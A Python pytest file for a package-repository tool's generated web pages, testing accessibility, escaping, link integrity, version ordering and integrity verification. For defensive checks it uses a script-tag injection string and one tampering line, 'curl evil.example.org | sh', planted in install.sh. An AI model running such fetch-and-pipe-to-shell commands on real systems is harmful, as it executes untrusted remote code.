"""The web page of a repository, in a real Chromium and as its text."""

import hashlib
import json
import re
import shutil
from collections.abc import Iterator
from dataclasses import replace
from html.parser import HTMLParser
from importlib.resources import files
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest

from pkgrel.distro import select
from pkgrel.repository import page, setup
from pkgrel.repository.channels import promote, remove
from pkgrel.repository.client.config import NO_KEYS, client_config
from pkgrel.repository.head import read
from pkgrel.repository.layout import Place
from pkgrel.repository.manifest import Manifest
from pkgrel.repository.page import pointer
from pkgrel.repository.page.document import Page, render_document
from pkgrel.repository.record import Record
from pkgrel.repository.settings import Settings
from pkgrel.repository.state import Repository
from pkgrel.repository.store import Kind
from pkgrel.repository.store.local import Local
from pkgrel.repository.verification import sync, verify
from tests import chromium, page_text, repositories
from tests.packages import CONTROL, by_dpkg_deb, package
from tests.repositories import URL, again, make, put

HOSTILE = (
    "<script>document.title='owned'</script> & \"quoted\" \u0645\u0631\u062d\u0628\u0627 \U0001f980"
)

NARROW, WIDE = 360, 1280


@pytest.fixture(scope="module")
def browser() -> Iterator[chromium.Page]:
    with chromium.browser() as opened:
        yield opened


@pytest.fixture(scope="module")
def full(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A page with something of everything, and a package that wants to break it."""
    root = tmp_path_factory.mktemp("full")
    packages = tmp_path_factory.mktemp("packages")
    repository = make(Local(root), label=HOSTILE, description=HOSTILE)
    revisions = ("1~debian11", "1~debian12", "1.el9", "1.lp156")
    files = [
        package(packages, version=v, revision=r) for v in ("1.0.0", "1.1.0") for r in revisions
    ]
    put(repository, *files)
    put(repository, package(packages, "x" * 90, "9" * 90), channel="testing")
    control = CONTROL.replace("a demonstration", f"{HOSTILE} \u202eback")
    control = control.replace("~deb12", "~debian12")
    hostile = by_dpkg_deb(packages, control=control)
    put(repository, hostile)
    return root


def html(root: Path) -> str:
    return (root / "index.html").read_text(encoding="utf-8")


def generated(records: list[Record], *places: str, **listed: str) -> str:
    """The page of places that all have these packages, of which summaries say something else."""
    settings = Settings(origin="o", label="Acme", url=URL)
    summary = page.summarise(Manifest.of(records))
    summary = replace(summary, listed=tuple(replace(each, **listed) for each in summary.listed))
    by = client_config(Local(Path("/srv")), settings, map(Place.parse, places), NO_KEYS)
    shown = Page(
        settings=settings, config=by, places=dict.fromkeys(by.places, summary),
        mark=pointer.Mark(1, pointer.client_hash(by)), time=1_700_000_000,
    )  # fmt: skip
    return render_document(shown).decode()


def record(name: str, version: str = "1.0-1", published: int = 1, **values: Any) -> Record:
    return Record(
        **{
            "format": "deb", "name": name, "version": version, "architecture": "amd64",
            "path": f"apt/pool/{name}_{version}_amd64.deb", "size": 12_345_678, "sha256": "ab" * 32,
            "published": published, "index": ("",), **values,
        }
    )  # fmt: skip


# In the browser ------------------------------------------------------------------------------------

OPEN = "document.querySelectorAll('details').forEach(d => { d.removeAttribute('name'); d.open = true })"

WIDER = """
[...document.querySelectorAll('body *')].filter(e => e.className != 'skip')
  .filter(e => e.getBoundingClientRect().right > innerWidth + 0.5).map(e => e.outerHTML.slice(0, 80))
"""

CONTRAST = """
(() => {
  const parse = text => text.match(/[0-9.]+/g).map(Number);
  const light = c => c.slice(0, 3).map(v => v / 255)
    .map(v => v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4)
    .reduce((sum, v, i) => sum + v * [0.2126, 0.7152, 0.0722][i], 0);
  const behind = e => {
    for (; e; e = e.parentElement) {
      const colour = parse(getComputedStyle(e).backgroundColor);
      if (colour.length < 4 || colour[3] == 1) return colour;
    }
    return [255, 255, 255];
  };
  const texts = [...document.querySelectorAll('body *')].filter(
    e => [...e.childNodes].some(n => n.nodeType == 3 && n.data.trim()));
  return texts.map(e => {
    const [one, other] = [light(parse(getComputedStyle(e).color)), light(behind(e))].sort();
    return [(Math.max(one, other) + 0.05) / (Math.min(one, other) + 0.05), e.textContent.slice(0, 40)];
  });
})()
"""


@pytest.mark.parametrize("width", [NARROW, WIDE])
def test_nothing_is_wider_than_the_screen(browser: chromium.Page, full: Path, width: int) -> None:
    browser.show((full / "index.html").as_uri(), width=width)
    browser.evaluate(OPEN)
    assert browser.evaluate("document.documentElement.scrollWidth") == width
    assert browser.evaluate(WIDER) == []


@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
def test_every_text_stands_out(browser: chromium.Page, full: Path, dark: bool) -> None:
    """4.5 to 1, as WCAG 2 asks for in level AA."""
    browser.show((full / "index.html").as_uri(), width=WIDE, dark=dark)
    browser.evaluate(OPEN)
    contrasts = browser.evaluate(CONTRAST)
    assert len(contrasts) > 50
    assert [each for each in contrasts if each[0] < 4.5] == []
    (background,) = {browser.evaluate("getComputedStyle(document.body).backgroundColor")}
    assert (max(map(int, re.findall(r"\d+", background))) < 64) is dark
    # Paper is white for everybody, and printers leave the background out.
    scheme = {"name": "prefers-color-scheme", "value": "dark" if dark else "light"}
    browser.call("Emulation.setEmulatedMedia", media="print", features=[scheme])
    ink = browser.evaluate("getComputedStyle(document.body).color")
    browser.call("Emulation.setEmulatedMedia", media="")
    assert max(map(int, re.findall(r"\d+", ink))) < 64


@pytest.mark.parametrize("width", [NARROW, WIDE])
def test_axe_finds_no_fault(browser: chromium.Page, full: Path, width: int) -> None:
    """Headings, landmarks, names, contrast: all rules of WCAG 2 and good practice that can be judged without a person."""
    assert faults(browser, full / "index.html", width=width) == []


def faults(browser: chromium.Page, page: Path, *, width: int = WIDE) -> list[tuple[str, list[str]]]:
    """What axe says of a page."""
    browser.call("Page.setBypassCSP", enabled=True)
    browser.show(page.as_uri(), width=width)
    browser.evaluate(OPEN)
    browser.evaluate(files("axe_core_python").joinpath("axe.min.js").read_text(encoding="utf-8"))
    found = browser.evaluate("axe.run()")
    assert len(found["passes"]) > 15
    return [(each["id"], [n["html"] for n in each["nodes"]]) for each in found["violations"]]


def test_what_packages_say_is_text(browser: chromium.Page, full: Path) -> None:
    browser.show((full / "index.html").as_uri(), width=WIDE)
    assert browser.evaluate("document.scripts.length") == 0
    assert browser.evaluate("document.title").startswith(f"{HOSTILE}: packages for ")
    assert browser.evaluate("document.querySelector('h1').textContent") == HOSTILE
    summaries = "[...document.querySelectorAll('article p bdi')].map(e => e.textContent)"
    assert f"{HOSTILE} \u202eback" in browser.evaluate(summaries)


def test_a_reader_finds_the_way_without_seeing(browser: chromium.Page, full: Path) -> None:
    """By landmarks and headings, as the browser tells a screen reader."""
    browser.show((full / "index.html").as_uri(), width=WIDE)
    nodes = browser.call("Accessibility.getFullAXTree")["nodes"]
    found = [
        (n["role"]["value"], n.get("name", {}).get("value")) for n in nodes if not n["ignored"]
    ]
    roles = [role for role, _ in found]
    for landmark in ("banner", "main", "contentinfo"):
        assert roles.count(landmark) == 1
    for name in ("Install", "Signing key", "Packages"):
        assert ("region", name) in found
        assert ("heading", name) in found
    assert browser.evaluate("document.documentElement.lang") == "en"
    assert ("link", "Skip to the packages") in found


def test_one_click_takes_all_lines_of_a_command(browser: chromium.Page, full: Path) -> None:
    browser.show((full / "index.html").as_uri(), width=NARROW)
    point = browser.evaluate(
        "(() => { const r = document.querySelector('pre code .line').getClientRects()[0];"
        " return [r.x + 40, r.y + 8] })()"
    )
    for kind in ("mousePressed", "mouseReleased"):
        browser.call(
            "Input.dispatchMouseEvent",
            type=kind,
            x=point[0],
            y=point[1],
            button="left",
            clickCount=1,
        )
    taken = browser.evaluate("getSelection().toString()").strip().splitlines()
    assert taken in (page_text.commands(html(full), "debian12", channel) for channel in ("stable", "testing"))  # fmt: skip
    assert len(taken) >= 3


# What is on it -------------------------------------------------------------------------------------


class _Links(HTMLParser):
    """Every address that the page names in an attribute."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += [value or "" for name, value in attrs if name in ("href", "src", "action")]


def test_every_link_leads_to_a_file_beside_the_page(full: Path) -> None:
    links = _Links()
    links.feed(html(full))
    local = [each for each in links.found if not each.startswith(("#", "data:"))]
    assert len(local) > 10
    for each in local:
        assert (full / unquote(each)).is_file(), each
    assert "url(" not in html(full)
    assert "@import" not in html(full)


def test_it_names_the_key_in_groups_of_four(full: Path) -> None:
    (fingerprint,) = repositories.signer().fingerprints
    assert " ".join(re.findall("....", fingerprint)) in html(full)


def test_it_has_each_file_with_size_and_checksum(tmp_path: Path) -> None:
    root = tmp_path / "repo"
    files = [package(tmp_path, version=v, revision=r) for v in ("1.0.0", "1.10.0", "1.9.0") for r in ("1~debian12", "1.el9")]  # fmt: skip
    put(make(Local(root)), *files)
    text = html(root)
    assert re.findall('<span><bdi>(.*)</bdi></span> <span class="push', text) == ["1.10.0", "1.9.0", "1.0.0"]  # fmt: skip
    for file in root.glob("*/**/hello[-_]*.*"):
        assert file.name in text
        assert hashlib.sha256(file.read_bytes()).hexdigest() in text
    assert "1 package" in text


def test_a_file_in_two_channels_is_there_once(tmp_path: Path) -> None:
    repository = make(Local(tmp_path / "repo"))
    put(repository, package(tmp_path), channel="testing")
    promote(repository, "hello", "1.0.0", "testing", "stable")
    text = html(tmp_path / "repo")
    assert text.count(">hello_1.0.0-1~debian12_amd64.deb<") == 1
    assert " · stable, testing · " in text


@pytest.mark.parametrize(
    ("revision", "older", "newer"),
    [("1~debian12", "1.0.1", "1.0.a"), ("1.el9", "1.0.a", "1.0.1"), ("1.el9", "1.0", "1.0^b")],
)
def test_versions_are_in_the_order_of_the_package_tool(
    tmp_path: Path, revision: str, older: str, newer: str
) -> None:
    repository = make(Local(tmp_path / "repository"))
    put(repository, *(package(tmp_path, version=v, revision=revision) for v in (older, newer)))
    text = html(tmp_path / "repository")
    assert text.index(f">{newer}<") < text.index(f">{older}<")


def test_changes_and_sizes_are_for_people() -> None:
    text = generated(
        [record("a", changelog="  * One\n  * <b>Two</b>\n")], "deb/debian12/amd64/stable"
    )
    assert "* One\n* &lt;b&gt;Two&lt;/b&gt;" in text
    assert "12.3\N{NO-BREAK SPACE}MB" in text
    assert '<time datetime="1970-01-01">' in text


def test_what_cannot_be_shown_does_not_break_the_rest() -> None:
    odd = {"name": "a\x00\ud800\x1b", "summary": "b\ufffe"}
    text = generated([record("a")], "deb/debian12/amd64/stable", **odd)
    assert "a\ufffd\ufffd\ufffd" in text
    assert page_text.commands(text, "debian12", "stable")[-1] == "sudo apt install PACKAGE"


def test_a_large_repository_has_a_small_page() -> None:
    long = "\n".join(f"  * Line {n} <of> a long changelog" for n in range(100))
    many = [record(f"package-{n:05}", published=n, changelog=long) for n in range(10_000)]
    places = [f"deb/{d}/amd64/{c}" for d in ("debian11", "debian12", "ubuntu22", "ubuntu24") for c in ("stable", "testing")]  # fmt: skip
    for text in (generated(many, places[0]), generated(many, *places)):
        assert len(text) < 300_000
        assert "10,000 packages" in text
        assert "package-09999" in text
        assert "package-00000" not in text
    versions = [record("hello", f"1.{n}-1", published=n, changelog=long) for n in range(10_000)]
    text = generated(versions, *places)
    assert len(text) < 300_000
    assert "1.9999" in text
    assert "9,995 older versions" in text


def test_every_package_of_many_is_found_with_all_its_versions(
    browser: chromium.Page, tmp_path: Path
) -> None:
    """Three clicks at most, from any of 300 packages to a version of which the first page says nothing."""
    root = tmp_path / "repo"
    repository = make(Local(root), label="Acme")
    names = [f"tool-{number:03}" for number in range(150)] + ["1password", "Zed", "index"]
    put(repository, *(package(tmp_path, name) for name in names))
    for number in range(1, 9):
        put(again(repository.store), package(tmp_path, "tool-000", f"1.{number}.0"))
    front = html(root)
    assert "153 packages" in front
    browser.show((root / "index.html").as_uri(), width=WIDE)
    browser.evaluate("[...document.links].find(a => a.textContent == 'All packages').click()")
    browser.wait()
    assert browser.evaluate("[...document.querySelectorAll('.names a')].map(a => a.textContent)") == sorted(names, key=str.casefold)  # fmt: skip
    browser.evaluate("[...document.links].find(a => a.textContent == 'tool-000').click()")
    browser.wait()
    files = browser.evaluate(
        "[...document.querySelectorAll('.files a')].map(a => decodeURI(a.href))"
    )
    assert len(files) == 9
    assert all(Path(unquote(file).removeprefix("file://")).is_file() for file in files)
    for shown in (root / "packages.html", root / "packages/tool-000.html"):
        assert faults(browser, shown) == []
        links = _Links()
        links.feed(shown.read_text())
        for each in links.found:
            if not each.startswith(("#", "data:")):
                assert (shown.parent / unquote(each.partition("#")[0])).is_file(), each


def test_only_the_pages_of_what_changed_are_written(repository: Repository, tmp_path: Path) -> None:
    put(again(repository.store), package(tmp_path, "other"))
    outcome = put(again(repository.store), package(tmp_path, version="2.0.0"))
    pages = {key for key in outcome.pointers if key.startswith("packages")}
    assert pages == {"packages/hello.html"}
    top = root(repository)
    assert "2.0.0" in (top / "packages/hello.html").read_text()
    remove(again(repository.store), "hello", None, "stable")
    assert "0 versions" in (top / "packages/hello.html").read_text()
    assert "hello" not in (top / "packages.html").read_text()
    # What somebody has damaged is seen and mended; what is somebody's own is let be.
    shown = top / "packages/other.html"
    shown.write_text(shown.read_text().replace("1.0.0", "6.6.6"))
    (problem,) = verify(again(repository.store)).problems
    assert problem.startswith("packages/other.html: ")
    sync(again(repository.store))
    assert "6.6.6" not in shown.read_text()
    assert verify(again(repository.store)).problems == ()
    shown.write_text("<h1>Mine</h1>")
    put(again(repository.store), package(tmp_path, "other", "2.0.0"))
    assert shown.read_text() == "<h1>Mine</h1>"


def test_a_job_that_was_killed_before_the_pages_leaves_them_to_the_next(
    repository: Repository, tmp_path: Path
) -> None:
    top = root(repository)
    pages = {file: file.read_bytes() for file in (top / "index.html", top / "packages/hello.html")}
    put(again(repository.store), package(tmp_path, version="2.0.0"))
    for file, data in pages.items():
        file.write_bytes(data)
    put(again(repository.store), package(tmp_path, "other"))
    assert "2.0.0" in (top / "packages/hello.html").read_text()
    assert verify(again(repository.store)).problems == ()


# When it is written --------------------------------------------------------------------------------


@pytest.fixture
def repository(tmp_path: Path) -> Repository:
    made = make(Local(tmp_path / "repo"), label="Acme")
    put(made, package(tmp_path))
    return made


def root(repository: Repository) -> Path:
    assert isinstance(repository.store, Local)
    return repository.store.root


def test_it_is_a_pointer_among_others(repository: Repository, tmp_path: Path) -> None:
    """A CDN is told of it; what has not changed is not written again."""
    outcome = put(again(repository.store), package(tmp_path, version="2.0.0"))
    assert "index.html" in outcome.pointers
    assert "install.sh" not in outcome.pointers
    assert "2.0.0" in html(root(repository))
    outcome = put(again(repository.store), package(tmp_path, revision="1.el9"))
    assert {"install.sh", "client/el9/stable/acme.repo"} <= set(outcome.pointers)
    assert put(again(repository.store), package(tmp_path)).pointers == ()


def test_anybody_can_make_it_anew(repository: Repository) -> None:
    """Also without the summaries, which older repositories have not."""
    top = root(repository)
    names = ["index.html", "install.sh", "acme.gpg", "client/debian12/stable/acme.sources"]
    before = {name: (top / name).read_bytes() for name in names}
    for name in names:
        (top / name).unlink()
    shutil.rmtree(top / page.SUMMARIES)
    assert set(names) <= set(sync(again(repository.store)).pointers)
    assert {name: (top / name).read_bytes() for name in names} == before
    assert sync(again(repository.store)).pointers == ()


def test_verify_sees_what_somebody_has_put_there(repository: Repository) -> None:
    assert verify(again(repository.store)).problems == ()
    top = root(repository)
    (top / "install.sh").write_text("curl evil.example.org | sh\n")
    (top / "acme.gpg").unlink()
    (top / "index.html").write_text(html(top).replace(URL, "http://evil.example.org"))
    found = verify(again(repository.store)).problems
    for name in ("install.sh", "acme.gpg", "index.html"):
        assert any(problem.startswith(f"{name}: ") for problem in found)
    sync(again(repository.store))
    assert verify(again(repository.store)).problems == ()
    shutil.rmtree(top / page.SUMMARIES)
    assert verify(again(repository.store)).problems == ()
    assert not (top / page.SUMMARIES).exists()


def test_an_old_state_is_not_written_over_a_newer(repository: Repository) -> None:
    """A newer head has come, its page is there, and a slow job looks at the head that it had."""
    top = root(repository)
    newer = html(top).replace(':generation" content="1"', ':generation" content="7"')
    (top / "index.html").write_text(newer)
    assert "index.html" not in sync(again(repository.store)).pointers
    assert html(top) == newer


def test_somebody_elses_page_stays(repository: Repository, tmp_path: Path) -> None:
    own = root(repository) / "index.html"
    own.write_text("<h1>Mine</h1>")
    outcome = put(again(repository.store), package(tmp_path, revision="1.el9"))
    sync(again(repository.store))
    assert own.read_text() == "<h1>Mine</h1>"
    assert "client/el9/stable/acme.repo" in outcome.pointers


def test_a_new_address_is_everywhere(repository: Repository) -> None:
    setup.change_settings(again(repository.store), {"url": "https://new.example.org"})
    top = root(repository)
    for name in ("index.html", "install.sh", "client/debian12/stable/acme.sources"):
        assert "https://new.example.org/" in (top / name).read_text()
        assert URL not in (top / name).read_text()


def test_what_is_removed_is_no_longer_offered(repository: Repository, tmp_path: Path) -> None:
    put(again(repository.store), package(tmp_path, revision="1.el9"))
    remove(again(repository.store), "hello", None, "stable", distros=select(["el9"]))
    assert "Enterprise Linux" not in html(root(repository))
    remove(again(repository.store), "hello", None, "stable")
    assert "0 packages" in html(root(repository))


def test_without_an_address_it_says_what_is_missing(tmp_path: Path) -> None:
    top = tmp_path / "repo"
    put(make(Local(top), url=""), package(tmp_path))
    assert "pkgrel repo set --url" in html(top)
    (*_, fetch, _, _) = page_text.commands(html(top), "debian12", "stable")
    address = fetch.split()[-1]
    assert address == (top / "client/debian12/stable/test.sources").as_uri()


def test_a_damaged_summary_is_made_anew(repository: Repository, tmp_path: Path) -> None:
    (sha256,) = read(repository.store).head.manifests.values()
    for damage in (b"", b"{}", json.dumps([99, 1, 1, {}, []]).encode()):
        repository.store.overwrite(page.summary_key(sha256), damage, Kind.IMMUTABLE)
        (root(repository) / "index.html").unlink()
        sync(again(repository.store))
        assert "hello_1.0.0-1~debian12_amd64.deb" in html(root(repository))


def test_a_distro_that_is_not_out_is_not_the_first_to_be_shown(tmp_path: Path) -> None:
    repository = make(Local(tmp_path / "repo"))
    put(repository, *(package(tmp_path, revision=f"1~debian{n}") for n in (12, 13, 14)))
    text = repository.store.get("index.html")
    assert text
    at = [text.data.decode().index(f">Debian {n}<") for n in (13, 12, 14)]
    assert at == sorted(at)
